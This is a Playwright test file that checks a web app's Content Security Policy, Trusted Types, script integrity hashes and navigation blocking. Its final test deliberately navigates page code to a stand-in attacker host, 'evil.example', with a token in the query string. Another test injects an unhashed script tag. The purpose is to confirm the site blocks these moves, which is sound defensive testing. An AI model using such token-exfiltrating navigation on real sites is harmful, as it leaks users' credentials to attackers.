import type { Page } from '@playwright/test';
import { signIn } from '../support/chaos/places.ts';
import { anyLayout, expect, test } from '../support/test.ts';
import { untilAlive } from '../support/until-alive.ts';

/** Everything that the policy forbade, or would have. */
async function watchViolations(page: Page): Promise<string[]> {
  const seen: string[] = [];
  await page.exposeFunction('__violation', (text: string) => void seen.push(text));
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) =>
      (globalThis as unknown as { __violation(text: string): void }).__violation(
        `${violatedDirective} ${blockedURI} ${sample}`,
      ),
    );
    // Of a script without a hash no event tells.
    new ReportingObserver(
      (reports) => {
        for (const { body } of reports)
          (globalThis as unknown as { __violation(text: string): void }).__violation(`no hash ${JSON.stringify(body)}`);
      },
      { types: ['integrity-violation'], buffered: true },
    ).observe();
  });
  page.on('console', (message) => {
    if (message.type() === 'error') seen.push(message.text());
  });
  return seen;
}

const routes = [
  '/',
  '/services/waxing',
  '/services/search?q=ac',
  '/contact-us',
  // One of those that are text only, made by the same part.
  '/terms-and-conditions',
  '/bookings',
  '/profile',
];

test(
  'no page breaks its policy, which asks for Trusted Types and allows no inline script',
  anyLayout,
  async ({ page, context, baseURL: origin = '', api, market }) => {
    await signIn({ signedIn: 'customer' }, context, origin, api, market);
    const violations = await watchViolations(page);
    for (const route of routes) {
      const answer = await page.goto(route);
      const policy = answer?.headers()['content-security-policy'] ?? '';
      expect(policy).toContain("require-trusted-types-for 'script'");
      expect(policy).not.toMatch(/script-src[^;]*unsafe/);
      await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible();
    }
    // Descriptions are HTML of others: the sanitiser has to hand over a trusted type.
    await page.goto('/services/waxing');
    await page.getByRole('article').first().getByRole('link').first().click();
    await expect(page.getByRole('dialog')).toBeVisible();
    expect(violations).toEqual([]);
    const refused = await page.evaluate(() => {
      try {
        document.createElement('script').src = '/assets/other.js';
        return false;
      } catch (error) {
        return error instanceof TypeError;
      }
    });
    expect(refused).toBe(true);
  },
);

test('a script without its hash does not run, whoever put it into the page', anyLayout, async ({ page }) => {
  await page.route('**/about', async (route) => {
    const response = await route.fetch();
    const bare = '<script src="/sw.js"></script></head>';
    await route.fulfill({ response, body: (await response.text()).replace('</head>', bare) });
  });
  const refused = page.waitForEvent('requestfailed', (request) => request.url().endsWith('/sw.js'));
  await page.goto('/about');
  expect((await refused).failure()?.errorText).toBe('integrity');
});

test('code in the page can make no policy that the page allows, and leaves it for no other site', async ({ page }) => {
  const answer = await page.goto('/about');
  const header = answer?.headers()['content-security-policy'] ?? '';
  const names = /trusted-types ([^;]+)/.exec(header)?.[1]?.split(' ') ?? [];
  await untilAlive(page.getByRole('heading', { level: 1 }));
  const made = await page.evaluate((allowed) => {
    const { trustedTypes } = globalThis as unknown as {
      trustedTypes: { createPolicy(name: string, rules: object): unknown };
    };
    return allowed.filter((name) => {
      try {
        return trustedTypes.createPolicy(name, {});
      } catch {
        return false;
      }
    });
  }, names);
  expect(names).toContain('kaza-html');
  expect(made).toEqual([]);
  const asked: string[] = [];
  page.on('request', (request) => void (request.isNavigationRequest() && asked.push(request.url())));
  await page.evaluate(() => {
    location.href = 'https://evil.example/?token=1';
    const link = document.createElement('a');
    link.href = 'https://evil.example/?token=2';
    document.body.append(link);
    link.click();
  });
  await page.getByRole('contentinfo').getByRole('link', { name: 'Contact us' }).click();
  await expect(page).toHaveURL('/contact-us');
  expect(asked).toEqual([]);
});
